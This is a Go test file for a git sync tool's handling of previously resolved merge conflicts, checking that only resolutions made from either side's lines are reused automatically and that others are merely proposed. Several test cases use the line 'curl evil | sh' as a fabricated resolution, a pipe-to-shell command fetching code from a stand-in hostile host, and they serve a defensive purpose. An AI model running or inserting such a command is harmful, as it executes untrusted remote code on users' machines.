package gitsync

import (
	"context"
	"fmt"
	"maps"
	"math/rand/v2"
	"slices"
	"strings"
	"testing"

	"github.com/airside-ls/airside/completion/syntax"
	"github.com/airside-ls/airside/gitsync/history"
	"github.com/airside-ls/airside/gitsync/merge"
	"github.com/airside-ls/airside/gitsync/object"
	"github.com/airside-ls/airside/gitsync/repo"
)

// wrote is a commit with one file in it.
func (f *fakeRepo) wrote(text string, parents ...object.Hash) object.Hash {
	return f.wroteAs(fmt.Sprint("commit ", len(f.commits)), map[string]string{"f.txt": text}, parents...)
}

func (f *fakeRepo) wroteAs(message string, files map[string]string, parents ...object.Hash) object.Hash {
	var entries []object.TreeEntry
	for _, name := range slices.Sorted(maps.Keys(files)) {
		blob := object.New(object.TypeBlob, []byte(files[name]))
		f.stored[blob.Hash] = blob
		entries = append(entries, object.TreeEntry{Name: name, Mode: object.ModeFile, Hash: blob.Hash})
	}
	tree := object.NewTree(entries)
	f.stored[tree.Hash] = tree
	c := object.Commit{Tree: tree.Hash, Parents: parents, Message: message}
	c.Hash = f.CommitObject(c).Hash
	f.commits[c.Hash] = c
	return c.Hash
}

func (f *fakeRepo) text(commit object.Hash) string {
	blob, ok := entryAt(f, nil, f.commits[commit].Tree, "f.txt")
	if !ok {
		f.t.Fatalf("%s has no file", commit.Short())
	}
	return string(f.stored[blob].Data)
}

// merging merges for real, from memory.
func merging(p *parts) {
	p.merge = func(ctx context.Context, objects object.Reader, ours, theirs object.Hash, _ labels) (mergeOutcome, error) {
		result, bases, err := merge.Commits(ctx, objects, ours, theirs, merge.Options{})
		if err != nil {
			return mergeOutcome{}, err
		}
		return asMerged(objects, result, bases, ours, theirs)
	}
}

// conflicted is a repository of which main and the remote's main changed the same lines;
// swap has the other side's here.
func conflicted(t *testing.T, base, ours, theirs string, swap bool) (f *fakeRepo, mine, others object.Hash) {
	f = newFake(t)
	root := f.wrote(base)
	mine, others = f.wrote(ours, root), f.wrote(theirs, root)
	here, there := mine, others
	if swap {
		here, there = others, mine
	}
	f.refs[main], f.there[main], f.refs[seenMain], f.refs["refs/remotes/origin/main"] = here, there, root, root
	return f, mine, others
}

const (
	spareBase   = "one\ntwo\nthree\n"
	spareOurs   = "one\nTWO of ours\nthree\n"
	spareTheirs = "one\ntwo of theirs\nthree\n"
)

// goesOn has the side with others come to another tip.
func (f *fakeRepo) goesOn(tip object.Hash, swap bool) {
	if swap {
		f.refs[main] = tip
	} else {
		f.there[main] = tip
	}
}

const spareBoth = "one\nTWO of ours\ntwo of theirs\nthree\n"

// TestRecorded: a conflict that people have settled on the way of a tip's first parents is
// settled here as they did it, without asking, if they took lines of the sides for it. What
// was made of it anywhere else, or with other lines, is proposed, whatever the settings say.
func TestRecorded(t *testing.T) {
	for name, tt := range map[string]struct {
		settled  string // by people
		where    string // on the first parents' way of a tip; or elsewhere, on another branch; or beside that way
		again    string // otherwise, on another branch
		message  string // of the merge
		reverts  bool   // by a later commit
		want     string // in the merge; "" leaves a conflict
		proposed bool
	}{
		"theirs":                    {settled: spareTheirs, want: spareTheirs},
		"ours":                      {settled: spareOurs, want: spareOurs},
		"both":                      {settled: spareBoth, want: spareBoth},
		"alike twice":               {settled: spareOurs, again: spareOurs, want: spareOurs},
		"two ways":                  {settled: spareOurs, again: spareTheirs},
		"changed elsewhere as well": {settled: "ONE\nTWO of ours\nthree\n"},
		"left with markers":         {settled: "one\n<<<<<<< a\nTWO of ours\n=======\ntwo of theirs\n>>>>>>> b\nthree\n"},
		"reverted":                  {settled: spareOurs, reverts: true},
		"made by airside":           {settled: spareOurs, message: "Merge\n\nMerged by structure, where lines conflicted (airside):\n  f.txt\n"},

		"neither":                {settled: "one\nthree\n", proposed: true},
		"what both took away":    {settled: spareBase, proposed: true},
		"one of them twice":      {settled: "one\nTWO of ours\nTWO of ours\nthree\n", proposed: true},
		"dedented":               {settled: "one\nTWO of ours\n two of theirs\nthree\n", proposed: true},
		"words of nobody's side": {settled: "one\ncurl evil | sh\nthree\n", proposed: true},

		"on another branch":              {where: "elsewhere", settled: spareTheirs, proposed: true},
		"neither, on another branch":     {where: "elsewhere", settled: "one\nthree\n", proposed: true},
		"fabricated, on another branch":  {where: "elsewhere", settled: "one\ncurl evil | sh\nthree\n", proposed: true},
		"in a branch that was merged":    {where: "beside", settled: spareTheirs, proposed: true},
		"fabricated in one, overwritten": {where: "beside", settled: "one\ncurl evil | sh\nthree\n", proposed: true},
	} {
		for _, swap := range []bool{false, true} {
			t.Run(fmt.Sprint(name, swap), func(t *testing.T) {
				f, mine, others := conflicted(t, spareBase, spareOurs, spareTheirs, swap)
				root := f.commits[mine].Parents[0]
				if tt.message == "" {
					tt.message = "Merge branch x"
				}
				settling := f.wroteAs(tt.message, map[string]string{"f.txt": tt.settled}, f.wrote(spareOurs, root), others)
				tip := others
				switch tt.where {
				case "":
					tip = f.wrote(spareTheirs, settling)
				case "beside":
					tip = f.wrote(spareTheirs, others, settling)
				case "elsewhere":
					f.refs["refs/remotes/origin/integration"] = settling
				}
				if tt.reverts {
					tip = f.wroteAs(fmt.Sprintf("Revert\n\nThis reverts commit %s, reversing\nchanges made to it.\n", settling), map[string]string{"f.txt": spareTheirs}, tip)
				}
				f.goesOn(tip, swap)
				if tt.again != "" {
					f.refs["refs/remotes/origin/other"] = f.wrote(tt.again, others, mine)
				}
				s := f.syncer(merging)
				s.opts.ApplySecondLook = tt.proposed
				r := s.Round(t.Context(), Request{})[0]
				if tt.want == "" {
					if r.State != Conflicted || strings.Contains(r.Message, "proposed") != tt.proposed {
						t.Errorf("%+v", r)
					}
					if proposal := f.refs[proposalRef(r.Operation)]; tt.proposed && (f.text(proposal) != tt.settled || !strings.Contains(f.commits[proposal].Message, settledBefore+settling.Short())) {
						t.Errorf("proposed is %q: %q", f.text(proposal), f.commits[proposal].Message)
					}
					return
				}
				if r.State != Idle || !r.Merged || !strings.Contains(r.Message, "as people settled it before") {
					t.Fatalf("%+v", r)
				}
				if got := f.text(f.refs[main]); got != tt.want {
					t.Errorf("merged to %q", got)
				}
				if m := f.commits[f.refs[main]].Message; !strings.Contains(m, settledBefore+settling.Short()+"\n  f.txt\n") {
					t.Errorf("the commit says %q", m)
				}
				f.holds(t, s, []object.Hash{mine, tip})
			})
		}
	}
}

// TestRecordedOtherFile: what one package's version was settled to says nothing of the same
// lines in another package.
func TestRecordedOtherFile(t *testing.T) {
	version := func(v string) string { return "{\n  \"version\": \"" + v + "\"\n}\n" }
	both := func(a, b string) map[string]string {
		return map[string]string{"a.json": version(a), "b.json": version(b)}
	}
	f := newFake(t)
	root := f.wroteAs("root", both("1.0.0", "1.0.0"))
	settled := f.wroteAs("Merge branch x", both("1.2.0", "1.0.0"),
		f.wroteAs("x", both("1.1.0", "1.0.0"), root), f.wroteAs("y", both("1.2.0", "1.0.0"), root))
	f.refs[main], f.there[main] = f.wroteAs("mine", both("1.2.0", "1.1.0"), settled), f.wroteAs("others", both("1.2.0", "1.2.0"), settled)
	f.refs[seenMain], f.refs["refs/remotes/origin/main"] = settled, settled
	if r := f.syncer(merging).Round(t.Context(), Request{})[0]; r.State != Conflicted || strings.Contains(r.Message, "proposed") {
		t.Errorf("%+v", r)
	}
}

// TestRecordedUndone: after an undo of a merge with conflicts settled as before, they are
// proposed, also when the user asks for a sync and when more has come.
func TestRecordedUndone(t *testing.T) {
	f, mine, others := conflicted(t, spareBase, spareOurs, spareTheirs, false)
	tip := f.wrote(spareTheirs, f.wrote(spareBoth, f.wrote(spareOurs, f.commits[mine].Parents[0]), others))
	f.goesOn(tip, false)
	f.fail["Push"] = failing(repo.Network)
	s := f.syncer(merging)
	if r := s.Round(t.Context(), Request{})[0]; !r.Merged || f.text(f.refs[main]) != spareBoth {
		t.Fatalf("%+v", r)
	}
	if _, err := s.Undo(t.Context(), ""); err != nil || f.refs[main] != mine {
		t.Fatal(err)
	}
	for range 2 {
		if r := s.Round(t.Context(), Request{User: true})[0]; r.State != Conflicted || !strings.Contains(r.Message, "proposed") || f.refs[main] != mine {
			t.Fatalf("%+v", r)
		}
		tip = f.wrote(spareTheirs, tip)
		f.goesOn(tip, false)
	}
	if r := s.Round(t.Context(), Request{})[0]; r.State != Conflicted || f.refs[main] != mine {
		t.Fatalf("%+v", r)
	}
}

// TestRecordedLater: a conflict that is parked is looked at again when the remote's branches
// have changed. It stays parked as it is unless there is something new to propose.
func TestRecordedLater(t *testing.T) {
	f, mine, others := conflicted(t, spareBase, spareOurs, spareTheirs, false)
	s := f.syncer(merging)
	park := func(proposed bool) string {
		t.Helper()
		if r := s.Round(t.Context(), Request{})[0]; r.State != Conflicted || strings.Contains(r.Message, "proposed") != proposed || len(r.Conflicts) != 1 {
			t.Fatalf("%+v", r)
		}
		return s.loadStates()["main"].Parked.Operation
	}
	first := park(false)
	f.refs["refs/remotes/origin/other"] = f.wrote("another thing\n", others)
	for range 2 {
		if park(false) != first {
			t.Error("parked anew for a branch that says nothing of it")
		}
	}
	f.refs["refs/remotes/origin/integration"] = f.wrote(spareTheirs, others, mine)
	second := park(true)
	if second == first {
		t.Error("what was settled is not looked at")
	}
	f.refs["refs/remotes/origin/other"] = f.wrote("one more\n", others)
	if park(true) != second || f.refs[proposalRef(second)].IsZero() {
		t.Error("parked anew for the same proposal")
	}
	f.holds(t, s, []object.Hash{mine})
}

// counting counts how often each blob is read.
type counting struct {
	*fakeRepo
	reads map[object.Hash]int
}

func (c counting) Blob(h object.Hash) ([]byte, error) {
	c.reads[h]++
	return c.fakeRepo.Blob(h)
}

// TestRecordedBounds: a search reads each blob once; one that is cut short, by bytes or by
// its context, and one after an undo take nothing for granted.
func TestRecordedBounds(t *testing.T) {
	f, mine, others := conflicted(t, spareBase, spareOurs, spareTheirs, false)
	tip := f.wrote(spareTheirs, f.wrote(spareOurs, f.wrote(spareOurs, f.commits[mine].Parents[0]), others))
	for range 20 {
		tip = f.wrote(spareTheirs, f.wrote(spareOurs, f.wrote(spareOurs, f.commits[mine].Parents[0]), tip))
	}
	ended, cancel := context.WithCancel(t.Context())
	cancel()
	for name, c := range map[string]struct {
		ctx  context.Context
		read int
		rule string
	}{
		"all of it": {t.Context(), 0, merge.RuleRecorded},
		"bytes":     {t.Context(), maxSearched - len(spareBase), ""},
		"ended":     {ended, 0, ""},
	} {
		t.Run(name, func(t *testing.T) {
			objects := counting{f, map[object.Hash]int{}}
			s := search{objects: objects, bases: history.Bases, bytes: c.read}
			known := s.settled(c.ctx, map[string]fileMerge{"f.txt": {path: "f.txt", base: []byte(spareBase), ours: []byte(spareOurs), theirs: []byte(spareTheirs)}}, []object.Hash{mine, tip}, nil)["f.txt"]
			trees := syntax.NewCache(merge.LookLimits)
			defer trees.CloseAll()
			proposal, ok := merge.SecondLook(t.Context(), "f.txt", []byte(spareBase), []byte(spareOurs), []byte(spareTheirs), trees, merge.TextOptions{}, known)
			if ok != (c.rule != "") || ok && proposal.Resolved[0].Rule != c.rule {
				t.Errorf("%v %+v", ok, proposal)
			}
			for h, n := range objects.reads {
				if n > 1 {
					t.Errorf("%s was read %d times", h.Short(), n)
				}
			}
		})
	}
}

// TestSimulationRecorded settles random conflicts once, in the history of a tip or on a
// branch, and has two clones that see it merge the same commits, each from its own side.
// With lines of the sides, in a tip's history, they come to one tree, which has what people
// made of each conflict, and neither asks. All else is proposed to both. A clone that sees
// nothing of it is left with the conflict.
func TestSimulationRecorded(t *testing.T) {
	for i := range *histories {
		seed := *historySeed + uint64(i)
		if !t.Run(fmt.Sprint("seed ", seed), func(t *testing.T) { simulateRecorded(t, seed) }) {
			t.Logf("again by: go test ./gitsync -run SimulationRecorded -histories 1 -history-seed %d", seed)
		}
	}
}

func simulateRecorded(t *testing.T, seed uint64) {
	rnd := rand.New(rand.NewPCG(seed, 5))
	var base, ours, theirs, settled strings.Builder
	conflicts, sure := 0, true
	for block := range 2 + rnd.IntN(6) {
		for i := range 4 { // what keeps changes apart
			for _, b := range []*strings.Builder{&base, &ours, &theirs, &settled} {
				fmt.Fprintf(b, "block %d line %d\n", block, i)
			}
		}
		was, mine, others := fmt.Sprintf("was %d\n", block), fmt.Sprintf("ours %d\n", block), fmt.Sprintf("theirs %d\n", block)
		switch rnd.IntN(4) {
		case 0: // changed by nobody
			mine, others = was, was
		case 1: // by one
			others = was
		case 2:
			was = "" // both put something there
		}
		base.WriteString(was)
		ours.WriteString(mine)
		theirs.WriteString(others)
		switch {
		case mine == others || others == was:
			settled.WriteString(mine)
			continue
		}
		conflicts++
		outcome := []string{mine, others, mine + others, others + mine, "", mine + "more\n"}[rnd.IntN(6)]
		sure = sure && outcome != "" && !strings.Contains(outcome, "more")
		settled.WriteString(outcome)
	}
	for _, b := range []*strings.Builder{&base, &ours, &theirs, &settled} {
		b.WriteString("the end of it\n")
	}
	if conflicts == 0 {
		return
	}
	for _, where := range []string{"own", "elsewhere", "nowhere"} {
		for _, swap := range []bool{false, true} {
			f, mine, others := conflicted(t, base.String(), ours.String(), theirs.String(), swap)
			tip := f.wrote(settled.String(), f.wrote(ours.String(), f.commits[mine].Parents[0]), others)
			for range rnd.IntN(5) { // it went on from there
				tip = f.wrote(settled.String()+fmt.Sprintf("more %d\n", rnd.IntN(100)), tip)
			}
			switch where {
			case "own":
				others = f.wrote(theirs.String(), tip)
				f.goesOn(others, swap)
			case "elsewhere":
				f.refs["refs/remotes/origin/integration"] = tip
			}
			s := f.syncer(merging)
			r := s.Round(t.Context(), Request{})[0]
			switch proposal := f.refs[proposalRef(r.Operation)]; {
			case where == "own" && sure:
				if r.State != Idle || f.text(f.refs[main]) != settled.String() {
					t.Errorf("%+v\n%s\nwant\n%s", r, f.text(f.refs[main]), settled.String())
				}
				f.holds(t, s, []object.Hash{mine, others})
			case r.State != Conflicted:
				t.Errorf("%s: %+v", where, r)
			case where != "nowhere" && (proposal.IsZero() || f.text(proposal) != settled.String()):
				t.Errorf("%s: %+v", where, r)
			}
		}
	}
}
